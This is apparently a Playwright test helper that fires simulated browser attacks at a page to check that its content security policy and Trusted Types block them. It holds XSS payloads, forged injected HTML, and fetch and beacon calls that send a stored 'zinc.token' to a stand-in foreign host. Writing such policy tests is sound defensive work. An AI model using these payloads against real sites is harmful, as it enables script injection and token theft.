import type { Page } from '@playwright/test'

/** What a foreign script would try first. Code that gets through leaves `data-harmed` on the page. */
export function prepareAttacks(stranger: string): void {
  const harm = 'document.documentElement.dataset.harmed = "yes"'
  const add = (tag: string, attributes: Record<string, string>, text = '') => {
    const element = document.createElement(tag)
    element.append(text)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    document.body.append(element)
    return element
  }
  const form = () => {
    const element = document.createElement('form')
    element.action = `${stranger}/form`
    document.body.append(element)
    element.submit()
  }
  const attacks: Record<string, () => unknown> = {
    'inline script': () => add('script', {}, harm),
    // biome-ignore lint/security/noGlobalEval: the attack itself.
    eval: () => globalThis.eval(harm),
    'new Function': () => new Function(harm)(),
    'text as a timer': () => Reflect.apply(setTimeout, window, [harm]),
    'handler in an attribute': () => add('img', { onerror: harm, src: '/nothing.png' }),
    'text as HTML': () => Reflect.set(add('p', {}), 'innerHTML', '<b data-harm>harm</b>'),
    'text as the address of a script': () => Reflect.set(add('script', {}), 'src', `${stranger}/script`),
    'eval of what our own policy lets through': () => {
      const policy = Reflect.get(window, 'trustedTypes').createPolicy('zinc', { createScript: (text: string) => text })
      // biome-ignore lint/security/noGlobalEval: the attack itself.
      globalThis.eval(policy.createScript(harm))
    },
    'second policy': () => Reflect.get(window, 'trustedTypes').createPolicy('other', {}),
    'foreign image': () => add('img', { src: `${stranger}/img` }),
    'foreign style sheet': () => add('link', { rel: 'stylesheet', href: `${stranger}/style` }),
    'foreign frame': () => add('iframe', { src: `${stranger}/page` }),
    'foreign object': () => add('object', { data: `${stranger}/object` }),
    'foreign fetch': () => fetch(`${stranger}/fetch`, { method: 'post', body: localStorage.getItem('zinc.token') }),
    'foreign beacon': () => navigator.sendBeacon(`${stranger}/beacon`, localStorage.getItem('zinc.token')),
    'foreign socket': () => new WebSocket(stranger.replace('http', 'ws')),
    'foreign form': form,
    'inline style': () => add('style', {}, '[data-harm], html { --harmed: yes }'),
    'another base': () => add('base', { href: stranger }),
  }
  // In a task of its own: what runs while a test asks may use eval, whatever the policy says.
  addEventListener('attack', (event) => {
    if (event instanceof CustomEvent) setTimeout(() => attacks[String(event.detail)]?.())
  })
}

/** The directive that blocks it and is reported. */
export const blockedBy = {
  'inline script': 'require-trusted-types-for',
  eval: 'require-trusted-types-for',
  'new Function': 'require-trusted-types-for',
  'text as a timer': 'require-trusted-types-for',
  'handler in an attribute': 'require-trusted-types-for',
  'text as HTML': 'require-trusted-types-for',
  'text as the address of a script': 'require-trusted-types-for',
  'second policy': 'trusted-types',
  'foreign image': 'img-src',
  'foreign style sheet': 'style-src-elem',
  'foreign frame': 'frame-src',
  'foreign object': 'require-trusted-types-for',
  'foreign fetch': 'connect-src',
  'foreign beacon': 'connect-src',
  'foreign socket': 'connect-src',
  'foreign form': 'form-action',
  'inline style': 'style-src-elem',
  'another base': 'base-uri',
} as const

export const attack = (page: Page, name: string) =>
  page.evaluate((detail) => dispatchEvent(new CustomEvent('attack', { detail })), name)

/** What the attacks left behind. */
export const harmIn = (page: Page) =>
  page.evaluate(() => ({
    code: document.documentElement.dataset['harmed'] ?? '',
    style: getComputedStyle(document.documentElement).getPropertyValue('--harmed'),
    html: document.querySelectorAll('b[data-harm]').length,
    origin: new URL(document.baseURI).origin,
  }))

/** As if a text had come into the page as HTML on the server, where Trusted Types see nothing. */
export const forgedHtml = (stranger: string) => `
<script>document.documentElement.dataset.harmed = 'inline script'</script>
<script src="${stranger}/script"></script>
<img src="/nothing.png" onerror="document.documentElement.dataset.harmed = 'handler'">
<link rel="stylesheet" href="${stranger}/style"><style>html { --harmed: yes }</style><b style="--harmed: yes">b</b>
<object data="${stranger}/object"></object><iframe src="${stranger}/page"></iframe><base href="${stranger}">`
